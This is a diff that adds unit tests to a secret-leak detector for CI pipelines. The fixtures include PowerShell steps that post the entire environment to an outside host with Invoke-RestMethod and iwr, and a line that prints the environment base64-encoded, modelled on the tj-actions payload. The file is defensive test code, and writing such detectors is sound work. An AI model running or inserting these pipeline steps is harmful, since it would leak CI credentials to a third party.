@@ -862,6 +862,18 @@ describe('build-code-behavior: pipelines of other CI systems (GitLab CI, Jenkins
     ] as const) expect(buildFinding(added(path, text)), text).toBeNull();
   });
 
+  it("reads PowerShell's env: drive and .NET's GetEnvironmentVariables() as the whole environment, and Invoke-RestMethod/-WebRequest with -Method Post or -Body as a send", () => {
+    expect(buildFinding(added('azure-pipelines.yml', 'steps:\n- powershell: Invoke-RestMethod -Uri https://stats.buildmetrics.io/v1 -Method Post -Body (Get-ChildItem env: | Out-String)'))).toMatchObject({ severity: 'critical', line: 2 });
+    expect(buildFinding(added('.gitlab-ci.yml', 't:\n  script:\n    - pwsh -c "iwr https://stats.buildmetrics.io/v1 -Body ([Environment]::GetEnvironmentVariables() | ConvertTo-Json)"'))).toMatchObject({ severity: 'critical', line: 3 });
+    expect(kinds('Get-ChildItem env: | Sort-Object Name', 'shell')).toEqual(['environment']);
+    expect(kinds('Get-ChildItem env:PATH', 'shell')).toEqual([]);
+  });
+
+  it('is quiet on the env: drive listed for debugging and a deploy posted with its token in a header', () => {
+    const text = 'steps:\n- pwsh: Get-ChildItem env: | Sort-Object Name\n- pwsh: Invoke-RestMethod -Uri https://api.acme.dev/deploys -Method Post -Headers @{ Authorization = "Bearer $(DEPLOY_TOKEN)" } -Body (@{ sha = \'$(Build.SourceVersion)\' } | ConvertTo-Json)';
+    expect(buildFinding(added('azure-pipelines.yml', text))).toBeNull();
+  });
+
   it('reports the whole environment or a credential printed to the log through encoders only, critical (the tj-actions payload in another CI system)', () => {
     const gitlab = buildFinding(added('.gitlab-ci.yml', 'test:\n  script:\n    - npm ci\n    - env | base64 -w0 | base64 -w0\n    - npm test'));
     expect(gitlab).toMatchObject({ severity: 'critical', line: 4, title: '.gitlab-ci.yml prints secrets to the log encoded when CI runs it' });
